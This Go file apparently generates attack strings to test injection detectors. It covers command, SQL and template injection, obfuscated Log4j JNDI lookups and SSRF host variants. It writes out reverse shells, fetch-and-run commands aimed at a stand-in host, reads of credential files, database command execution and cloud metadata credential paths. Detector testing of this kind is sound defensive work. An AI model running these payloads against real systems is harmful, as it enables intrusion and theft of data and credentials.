package detect

import (
	"fmt"
	"hash/fnv"
	"strings"
)

// Generated attacks. Each family is written from its grammar (contexts ×
// payload cores × obfuscations), not copied from a list, so a detector
// tuned on list entries meets spellings it has not seen. Every value is
// deterministic. A value is in the hold-out part when the FNV hash of its
// text is 0 mod 3 (see holdout); detectors are tuned on the rest only.

// holdout reports whether a generated value belongs to the hold-out part.
func holdout(s string) bool {
	h := fnv.New32a()
	h.Write([]byte(s))
	return h.Sum32()%3 == 0
}

// cross returns every prefix+core+suffix.
func cross(prefixes, cores, suffixes []string) []string {
	var out []string
	for _, p := range prefixes {
		for _, c := range cores {
			for _, s := range suffixes {
				out = append(out, p+c+s)
			}
		}
	}
	return out
}

// genFamilies returns the generated attack values by family.
func genFamilies() map[string][]string {
	return map[string][]string{
		"cmdi-windows":    genWindows(),
		"cmdi-posix":      genPosix(),
		"sqli-dialects":   genSQLDialects(),
		"sqli-lookalikes": genSQLLookalikes(),
		"ssti-engines":    genSSTI(),
		"log4j-nested":    genLog4j(),
		"ssrf-forms":      genSSRF(),
	}
}

func genWindows() []string {
	seps := []string{"& ", "&& ", "| ", "|| ", "\r\n", "\n", "1 & ", "x\" & ", "a' | "}
	cores := []string{
		`dir c:\`, `type C:\Windows\win.ini`, `type %SYSTEMROOT%\win.ini`, `net user`, `net localgroup administrators`,
		`whoami /priv`, `ipconfig /all`, `systeminfo`, `tasklist /v`, `cmd /c whoami`, `cmd.exe /c dir`,
		`%COMSPEC% /c dir`, `powershell -nop -c "Get-ChildItem C:\"`, `powershell.exe -enc SQBFAFgA`,
		`powershell -c "iex(New-Object Net.WebClient).DownloadString('http://x.example/a')"`,
		`certutil -urlcache -f http://x.example/a.exe a.exe`, `bitsadmin /transfer j http://x.example/a c:\a`,
		`reg query HKLM\Software`, `wmic process list`, `set`, `ver`, `echo %USERNAME%`, `ping -n 5 127.0.0.1`,
		`timeout /t 5`, `for /f %i in ('whoami') do echo %i`, `copy c:\windows\win.ini c:\inetpub\x.txt`,
		`del /q c:\x`, `start calc`, `rundll32 url.dll,FileProtocolHandler calc`, `mshta http://x.example/a.hta`,
		`w^h^o^a^m^i`, `who""ami`, `c^m^d /c dir`,
	}
	ps := []string{
		"; Get-ChildItem C:\\", "; Get-Content C:\\Windows\\win.ini", "; gc env:USERNAME", "; $env:USERNAME",
		"; Invoke-Expression 'whoami'", "; iex 'whoami'", "; IEX(IWR http://x.example/a -UseBasicParsing)",
		"; Start-Process calc", "; [System.IO.File]::ReadAllText('C:\\Windows\\win.ini')",
		"; [Diagnostics.Process]::Start('cmd','/c whoami')", "; Invoke-WebRequest http://x.example -OutFile a",
		"; Remove-Item -Recurse C:\\x", "; Get-Process", "; Set-ExecutionPolicy Bypass", "$(Get-ChildItem)",
		"; & ('who'+'ami')", "; &(gcm i*x) 'whoami'", "; Get-WmiObject Win32_Process",
		"\"; Get-Content C:\\Windows\\win.ini; \"", "'; Get-ChildItem env: #",
	}
	return append(cross(seps, cores, []string{""}), ps...)
}

func genPosix() []string {
	seps := []string{";", "; ", "|", "| ", "&&", "||", "\n", "`", "$(", "1;", "x';", "x\";", "a|"}
	cores := []string{
		"/???/c?t /e??/p??s??", "/b??/c?t /etc/pass*", "/bin/c[a]t /etc/passw[d]", "cat /e*c/pa*wd",
		"{cat,/etc/passwd}", "{ls,-la,/}", "{wget,http://x.example/a}", "cat</etc/passwd", "cat < /etc/passwd",
		"echo x>/tmp/a", "id>/tmp/o", "ls -la 2>&1", "$'\\x63\\x61\\x74' /etc/passwd", "$'\\143\\141\\164' /etc/passwd",
		"$(printf '\\x63\\x61\\x74') /etc/passwd", "`printf '\\151\\144'`", "$(echo aWQ= | base64 -d)",
		"echo aWQ= | base64 -d | sh", "a=c;b=at;$a$b /etc/passwd", "c''at /etc/passwd", "c\\at /etc/passwd",
		"ca$@t /etc/passwd", "${PATH:0:1}etc${PATH:0:1}passwd", "cat${IFS}/etc/passwd", "cat$IFS$9/etc/passwd",
		"IFS=,;`cat<<<cat,/etc/passwd`", "sleep 5", "sleep${IFS}5", "ping -c 5 127.0.0.1", "nc -e /bin/sh 10.0.0.1 4444",
		"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "curl http://x.example/a|sh", "wget -qO- http://x.example/a|sh",
		"python -c 'import os;os.system(\"id\")'", "perl -e 'system(\"id\")'", "php -r 'system(\"id\");'",
		"awk 'BEGIN{system(\"id\")}'", "find / -name x -exec id \\;", "xargs -I{} sh -c id", "uname -a", "id",
		"whoami", "env", "printenv", "cat /proc/self/environ", "head -n1 /etc/shadow", "tac /etc/passwd", "nl /etc/passwd",
	}
	suf := []string{"", ")", "`", " #", ";"}
	var out []string
	for _, v := range cross(seps, cores, suf) {
		// Keep the substitution forms balanced, the others plain.
		if strings.HasSuffix(v, ")") != strings.Contains(v, "$(") || strings.HasSuffix(v, "`") != strings.HasPrefix(strings.TrimLeft(v, "x1a';\"|"), "`") {
			continue
		}
		out = append(out, v)
	}
	return out
}

func genSQLDialects() []string {
	pre := []string{"'", "1'", "x')", "1", "1)", "\"", "admin'"}
	cores := []string{
		// PostgreSQL
		" OR data->>'role'='admin'--", " AND (SELECT 1 FROM pg_sleep(5))--", "; SELECT pg_sleep(5)--",
		" || (SELECT version()) || '", " AND 1=CAST((SELECT version()) AS int)--", " AND 1=(SELECT 1 FROM pg_user)--",
		"; COPY (SELECT '') TO PROGRAM 'id'--", " UNION SELECT string_agg(usename,',') FROM pg_user--",
		" AND query_to_xml('select 1',true,true,'') IS NOT NULL--", " OR jsonb_path_exists(data,'$.a')--",
		" AND data @> '{\"admin\":true}'--", " AND data ? 'admin'--", " OR current_setting('is_superuser')='on'--",
		" AND substr(current_database(),1,1)='p'--", " OR 1::int=1--", "; DROP TABLE users--",
		// MSSQL
		"; EXEC xp_cmdshell 'dir'--", "; EXEC master..xp_dirtree '\\\\x.example\\a'--", "; EXEC sp_configure 'show advanced options',1--",
		"; WAITFOR DELAY '0:0:5'--", " + (SELECT @@version) + '", " AND 1=CONVERT(int,@@version)--",
		"; DECLARE @q varchar(99);SET @q='x';EXEC(@q)--", " UNION SELECT name FROM master..sysdatabases--",
		" AND 1=(SELECT TOP 1 name FROM sys.tables)--", "; EXEC sp_executesql N'select 1'--",
		" UNION SELECT * FROM OPENROWSET('SQLOLEDB','x';'sa';'','select 1')--", " AND HAS_DBACCESS('master')=1--",
		// Oracle
		" || UTL_HTTP.REQUEST('http://x.example') || '", " AND 1=(SELECT COUNT(*) FROM ALL_USERS)--",
		" AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--", " UNION SELECT NULL,banner FROM v$version--",
		" AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--", " AND ROWNUM=1--", " UNION SELECT username FROM dba_users--",
		// SQLite
		" UNION SELECT sql FROM sqlite_master--", " AND 1=randomblob(100000000)--", " UNION SELECT sqlite_version()--",
		" AND load_extension('x')--", " AND unicode(substr(sqlite_version(),1,1))>0--", " UNION SELECT group_concat(name) FROM pragma_table_info('users')--",
		// MySQL
		" AND extractvalue(1,concat(0x7e,version()))#", " OR sleep(5)#", " AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -",
		" /*!50000UNION*/ /*!50000SELECT*/ 1,2--", " UNION ALL SELECT LOAD_FILE('/etc/passwd')#", " AND JSON_EXTRACT('{}','$')#",
		" OR 1 RLIKE 1#", " PROCEDURE ANALYSE()#", " AND MID(user(),1,1)='r'#",
	}
	return cross(pre, cores, []string{""})
}

func genSQLLookalikes() []string {
	quotes := []string{"\u2019", "\u2018", "\u02bc", "\uff07", "\u201d", "\u2032", "\u00b4"}
	spaces := []string{"\u00a0", "\u2003", "\u3000", "\u2009", "\u180e", "\u200b"}
	var out []string
	for _, q := range quotes {
		for _, s := range spaces {
			out = append(out,
				"1"+q+s+"OR"+s+"1=1--",
				q+s+"UNION"+s+"SELECT"+s+"password"+s+"FROM"+s+"users--",
				"admin"+q+"--",
				"x"+q+s+"AND"+s+"SLEEP(5)#",
			)
		}
	}
	terms := []string{"--", "-- -", "--+", "#", "/*", ";%00", ";\x00", "%23", "`", "/*!*/", "-- x", ";--"}
	for _, t := range terms {
		out = append(out, "admin'"+t, "' OR 1=1"+t, "1) OR (1=1"+t, "\" OR \"\"=\""+t, "' OR 'a'='a'"+t)
	}
	return out
}

func genSSTI() []string {
	return []string{
		// Go text/template and html/template
		`{{.}}`, `{{ . }}`, `{{printf "%v" .}}`, `{{ printf "%s" .Secret }}`, `{{.Env}}`, `{{ .Config.DBPassword }}`,
		`{{call .Func "id"}}`, `{{template "x" .}}`, `{{define "x"}}{{.}}{{end}}`, `{{range .}}{{.}}{{end}}`,
		`{{ index .Secrets 0 }}`, `{{ .Request.Header }}`, `{{ js .}}`, `{{ html .Password }}`, `{{with .User}}{{.Token}}{{end}}`,
		`{{$x := .}}{{$x}}`, `{{ .Method "arg" }}`, `{{ len . }}`, `{{ slice .Data 0 }}`,
		// Jinja2 / Twig / Nunjucks
		`{{ ''.__class__.__mro__[1].__subclasses__() }}`, `{{ config.items() }}`, `{{ self.__init__.__globals__ }}`,
		`{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}`,
		`{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}`, `{{ lipsum.__globals__.os.popen('id').read() }}`,
		`{{ cycler.__init__.__globals__.os.popen('id').read() }}`, `{{_self.env.registerUndefinedFilterCallback("exec")}}`,
		`{{['id']|filter('system')}}`, `{{ range.constructor("return process")() }}`, `{{7*'7'}}`, `{{ 7*7 }}`,
		`{% set x = 7*7 %}{{x}}`, `{% debug %}`, `{% include '/etc/passwd' %}`, `{% import os %}{{ os.system('id') }}`,
		// Freemarker / Velocity / Thymeleaf / Spring EL
		`<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}`, `${"freemarker.template.utility.Execute"?new()("id")}`,
		`#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))`, `#set($e="e")$e.getClass().forName("java.lang.Runtime")`,
		`__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x`, `${T(java.lang.System).getenv()}`, `*{T(java.lang.Runtime)}`,
		`${7*7}`, `#{7*7}`, `*{7*7}`, `@{7*7}`, `~{7*7}`, `${{7*7}}`, `${self.module.cache.util.os.system("id")}`,
		// ERB / EJS / Razor / Handlebars / Mustache / Smarty / Pug / Tornado / Mako
		`<%= 7*7 %>`, `<%= system('id') %>`, "<%= `id` %>", `<%= File.open('/etc/passwd').read %>`, `<% require('child_process').exec('id') %>`,
		`@(7*7)`, `@System.Diagnostics.Process.Start("cmd.exe")`, `{{#with "s" as |string|}}{{string.sub}}{{/with}}`,
		`{{=<% %>=}}<% x %>`, `{php}echo 'id';{/php}`, `{system('id')}`, `{$smarty.version}`, `{self::getStreamVariable("file:///etc/passwd")}`,
		`#{7*7}`, `#{global.process.mainModule.require('child_process').execSync('id')}`, `{% import os %}{{os.popen("id").read()}}`,
		`${__import__('os').popen('id').read()}`, `<%import os%>${os.popen('id').read()}`,
	}
}

func genLog4j() []string {
	hosts := []string{"ldap://x.example/a", "rmi://x.example:1099/a", "dns://x.example", "ldaps://x.example/a", "iiop://x.example/a"}
	spell := []string{
		"${jndi:%s}", "${${lower:j}ndi:%s}", "${${upper:j}ndi:%s}", "${${::-j}${::-n}${::-d}${::-i}:%s}",
		"${${env:NaN:-j}ndi${env:NaN:-:}%s}", "${j${k8s:k5:-ND}i:%s}", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:%s}",
		"${jnd${upper:\u0131}:%s}", "${${lower:J}${lower:N}${lower:D}${upper:\u0131}:%s}", "${jndi${upper::}%s}",
		"${${lower:${lower:j}}ndi:%s}", "${${::-${::-j}}ndi:%s}", "${j${main:\\k5:-Nd}i${spring:k5:-:}%s}",
		"${${sys:foo:-j}${sys:foo:-n}di:%s}", "${${base64:am5kaTo=}%s}", "%%24%%7Bjndi:%s%%7D", "$%%7Bjndi:%s%%7D",
		"${jndi:${lower:l}${lower:d}a${lower:p}://x.example/a}", "${${upper:J}${upper:N}${upper:D}${upper:I}:%s}",
	}
	var out []string
	for _, s := range spell {
		for _, h := range hosts {
			v := s
			if strings.Contains(s, "%s") {
				v = fmt.Sprintf(s, h)
			}
			out = append(out, v)
		}
	}
	return out
}

func genSSRF() []string {
	schemes := []string{"http://", "https://", "//"}
	hosts := []string{
		"127.0.0.1", "127.0.0.1.", "localhost", "localhost.", "LOCALHOST", "\uff11\uff12\uff17.\uff10.\uff10.\uff11",
		"\u2460\u2461\u2466.0.0.1", "\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3", "169.254.169.254", "169.254.169.254.",
		"\uff11\uff16\uff19.\uff12\uff15\uff14.\uff11\uff16\uff19.\uff12\uff15\uff14", "metadata.google.internal", "metadata.google.internal.",
		"instance-data", "db.internal", "printer.local", "router.local.", "app.svc.cluster.local", "[::1]", "[::]",
		"[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:169.254.169.254]", "[2002:7f00:1::]", "[2002:a9fe:a9fe::1]",
		"[2001:0:4136:e378:8000:63bf:80ff:fffe]", "[64:ff9b::7f00:1]", "[64:ff9b::169.254.169.254]", "[64:ff9b::a9fe:a9fe]",
		"[fe80::1%25eth0]", "[fd00:ec2::254]", "0x7f.1", "0177.0.0.1", "2130706433", "127.1", "0", "10.0.0.1",
		"192.168.1.1", "172.16.0.1", "100.100.100.200", "169.254.169.254.nip.io", "127.0.0.1.sslip.io",
		"user@127.0.0.1", "evil.example@169.254.169.254", "127.0.0.1:22", "localhost:6379",
		"\uff4c\uff4f\uff43\uff41\uff4c\uff48\uff4f\uff53\uff54",
	}
	paths := []string{"/", "/latest/meta-data/iam/security-credentials/", "/admin"}
	return cross(schemes, hosts, paths)
}
